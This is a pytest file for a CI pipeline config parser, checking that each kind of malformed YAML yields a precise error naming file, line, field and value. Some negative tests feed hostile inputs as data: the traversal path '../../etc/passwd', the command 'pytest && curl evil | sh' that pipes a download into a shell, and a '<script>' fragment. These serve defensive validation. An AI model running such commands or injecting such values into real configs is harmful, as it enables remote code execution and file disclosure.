"""The repo pipeline config: a PR author writes it, so every kind of mistake must be named clearly."""

import textwrap

import pytest

from aither_assets.config import ConfigError, parse_pipeline_config

VALID = textwrap.dedent(
    """\
    version: 1
    app: {name: sample-app, port: 8000}
    package:
      include: ["app/**", "pyproject.toml"]
    tests:
      unit:
        paths: [tests/unit]
        ranges: ["0000-0099", "0100-0199", "0200-0299"]
      domains:
        - {name: configuration, paths: [tests/domains/configuration]}
        - {name: security, paths: [tests/domains/security], timeout_seconds: 60}
      integration:
        - name: integration
          paths: [tests/integration]
          command: [python, -m, pytest, "--junitxml={junit}", "{files}"]
    linters:
      - {name: ruff, command: [ruff, check, --output-format=json, .], format: ruff-json}
    docker: {dockerfile: Dockerfile, platforms: [linux/amd64, linux/arm64]}
    smoke:
      - {path: /health, status: 200, contains: ok, max_latency_ms: 500}
    """
)


def test_valid_config_parses_with_defaults():
    config = parse_pipeline_config(VALID)
    assert config.app.name == "sample-app"
    assert config.tests.unit.ranges == ("0000-0099", "0100-0199", "0200-0299")
    assert [s.name for s in config.tests.domains] == ["configuration", "security"]
    assert config.tests.domains[1].timeout_seconds == 60
    assert config.tests.domains[0].command is None  # falls back to tests.command
    assert "{junit}" in " ".join(config.tests.command)
    assert config.docker.platforms == ("linux/amd64", "linux/arm64")
    assert config.smoke[0].max_latency_ms == 500


def errors_of(text: str) -> list[str]:
    with pytest.raises(ConfigError) as info:
        parse_pipeline_config(text)
    return [str(i) for i in info.value.issues]


def replace(old: str, new: str) -> str:
    assert old in VALID
    return VALID.replace(old, new)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # each case: one mistake, and the exact line a person reads
        (replace("port: 8000", "port: 70000"), ".aither/pipeline.yaml:2: app.port: Input should be less than or equal to 65535 (got 70000)"),
        (replace("name: sample-app", "name: Sample_App"), ".aither/pipeline.yaml:2: app.name: must be 1-31 of a-z 0-9 - starting with a letter or digit, e.g. web-api (got 'Sample_App')"),
        (replace('"pyproject.toml"', '"../../etc/passwd"'), ".aither/pipeline.yaml:4: package.include[1]: must be a path relative to the repository root, without '..' (got '../../etc/passwd')"),
        (replace("[tests/unit]", "[/abs/unit]"), ".aither/pipeline.yaml:7: tests.unit.paths[0]: must be a path relative to the repository root, without '..' (got '/abs/unit')"),
        (replace('"0100-0199"', '"0050-0199"'), ".aither/pipeline.yaml:8: tests.unit.ranges: ranges 0000-0099 and 0050-0199 overlap (got ['0000-0099', '0050-0199', '0200-0299'])"),
        (replace('"0200-0299"', '"200-299"'), ".aither/pipeline.yaml:8: tests.unit.ranges: range '200-299' must look like 0000-0099 (got ['0000-0099', '0100-0199', '200-299'])"),
        (replace("name: security", "name: Security!"), ".aither/pipeline.yaml:11: tests.domains[1].name: must be 1-40 of a-z 0-9 _ - starting with a letter or digit, e.g. security (got 'Security!')"),
        (replace('"{files}"', '"{file}"'), ".aither/pipeline.yaml:15: tests.integration[0].command: unknown placeholder {file}; allowed: ['coverage', 'files', 'junit', 'workspace'] (got ['python', '-m', 'pytest', '--junitxml={junit}', '{file}'])"),
        (replace("format: ruff-json", "format: pylint"), ".aither/pipeline.yaml:17: linters[0].format: Input should be 'ruff-json', 'sarif' or 'junit' (got 'pylint')"),
        (replace("linux/arm64", "linux/s390x"), ".aither/pipeline.yaml:18: docker.platforms[1]: Input should be 'linux/amd64' or 'linux/arm64' (got 'linux/s390x')"),
        (replace("path: /health", "path: health"), ".aither/pipeline.yaml:20: smoke[0].path: must be a URL path starting with /, e.g. /health (got 'health')"),
        (replace("status: 200", "status: 999"), ".aither/pipeline.yaml:20: smoke[0].status: Input should be less than or equal to 599 (got 999)"),
        (replace("version: 1", "version: 2"), ".aither/pipeline.yaml:1: version: Input should be 1 (got 2)"),
        (replace("linters:", "linterz: []\nlinters:"), ".aither/pipeline.yaml:16: linterz: unknown field (check the spelling) (got [])"),
        (replace("app: {name: sample-app, port: 8000}\n", ""), ".aither/pipeline.yaml:1: app: Field required"),
        ("app: [1,\n", ".aither/pipeline.yaml:2: <top level>: invalid YAML: expected the node content, but found '<stream end>'"),
        ("- just\n- a list\n", ".aither/pipeline.yaml: <top level>: must be a mapping of fields (got ['just', 'a list'])"),
    ],
)
def test_each_kind_of_error_names_file_line_field_and_value(text, expected):
    assert errors_of(text) == [expected]


def test_shell_string_command_is_rejected():
    errors = errors_of(replace("command: [python, -m, pytest, \"--junitxml={junit}\", \"{files}\"]", "command: 'pytest && curl evil | sh'"))
    assert errors == [".aither/pipeline.yaml:15: tests.integration[0].command: Input should be a valid list (got 'pytest && curl evil | sh')"]


def test_duplicate_suite_names_are_rejected():
    errors = errors_of(replace("name: security", "name: configuration"))
    assert errors == [".aither/pipeline.yaml:5: tests: suite names must be unique across domains and integration: ['configuration']"]


def test_smoke_without_docker_is_rejected():
    text = VALID.replace("docker: {dockerfile: Dockerfile, platforms: [linux/amd64, linux/arm64]}\n", "")
    assert errors_of(text) == [".aither/pipeline.yaml:1: <top level>: smoke checks need a docker section: there is no environment to check"]


def test_all_errors_are_reported_at_once():
    text = replace("port: 8000", "port: 0").replace("path: /health", "path: nope")
    assert len(errors_of(text)) == 2


def test_long_values_are_shortened_to_one_line():
    hostile = "x" * 500 + "\\n<script>"
    (line,) = errors_of(replace("name: sample-app", f'name: "{hostile}"'))
    assert len(line) < 250 and "\n" not in line
